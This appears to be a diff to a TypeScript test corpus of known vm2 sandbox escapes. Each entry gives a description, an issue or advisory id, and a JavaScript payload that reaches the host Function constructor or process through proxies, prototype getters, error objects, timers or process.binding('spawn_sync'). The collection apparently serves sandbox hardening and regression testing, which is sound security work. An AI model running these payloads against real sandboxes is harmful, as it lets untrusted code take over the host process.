@@ -21,12 +21,12 @@ export const VM2: readonly Escape[] = [
   ),
   escape(
     "the constructor of a host function",
-    "vm2#58",
+    "vm2#32",
     "reach(fetch.constructor); reach(console.log.constructor)",
   ),
   escape(
     "the constructor of what a host function gives",
-    "vm2#225",
+    "vm2#276",
     "const p = fetch('http://a.example/'); reach(p.constructor.constructor); await p.catch((e) => reach(e.constructor.constructor))",
   ),
   escape(
@@ -189,5 +189,50 @@ export const VM2: readonly Escape[] = [
     "binding of a process",
     "isolated-vm and node:vm, write-ups",
     "take(globalThis.process); process.binding('spawn_sync')",
+  ),
+  escape(
+    "a getter among the members of a descriptor",
+    "vm2#175",
+    String.raw`
+    Object.defineProperty(Object.prototype, "get", { configurable: true, get() { throw (f) => f.constructor("return process")(); } });
+    try { console.log({}); fetch("http://a.example/"); } catch (e) { take(e(fetch)); take(e(console.log)); } finally { delete Object.prototype.get; }`,
+  ),
+  escape(
+    "what a proxy constructs",
+    "vm2#177",
+    "reach((code) => Reflect.construct(new Proxy(class {}, { construct() { return () => (x) => x.constructor(code)(); } }), [])()(fetch))",
+  ),
+  escape(
+    "this within what a proxy constructs",
+    "vm2#179",
+    String.raw`
+    const A = new Proxy(class {}, { construct() { return function () { return Object.getPrototypeOf(this ?? fetch).constructor.constructor("return process")(); }; } });
+    const o = { toString: new A(), toJSON: new A() }; try { take(" " + o); } catch {} console.log(o); return o`,
+  ),
+  escape(
+    "__lookupGetter__ of the prototype",
+    "vm2#184",
+    'const get = fetch.__lookupGetter__?.("__proto__") ?? Object.getPrototypeOf; reach(Object.getOwnPropertyDescriptor(get.call(fetch, fetch), "constructor").value)',
+  ),
+  escape(
+    "the end of the stack, and a member of RangeError",
+    "vm2#199",
+    String.raw`
+    RangeError.prototype.c = Error.prototype.c = (f) => f.constructor("return process")();
+    const f = (n) => { try { return f(n + 1); } catch (e) { try { take(e.c(fetch)); reach(e.constructor.constructor); } catch {} return n; } }; f(0)`,
+  ),
+  escape(
+    "an error of inspect",
+    "vm2#268",
+    String.raw`
+    const b = { hexSlice: () => "", magic: { get [Symbol.for("nodejs.util.inspect.custom")]() { throw (f) => f.constructor("return process")(); } } };
+    try { console.log(b); Buffer.prototype.inspect.call(b, 0, { customInspect: true }); } catch (e) { if (typeof e === "function") take(e(() => 0)); }`,
+  ),
+  escape("a timer", "vm2#276", "reach(setTimeout(() => {}).ref().constructor.constructor)"),
+  escape(
+    "SuppressedError",
+    "GHSA-55hx-c926-fr95",
+    String.raw`
+    const e = new SuppressedError(globalThis, new Error("a")); reach(e.error.constructor.constructor); reach(e.suppressed.constructor.constructor)`,
   ),
 ];
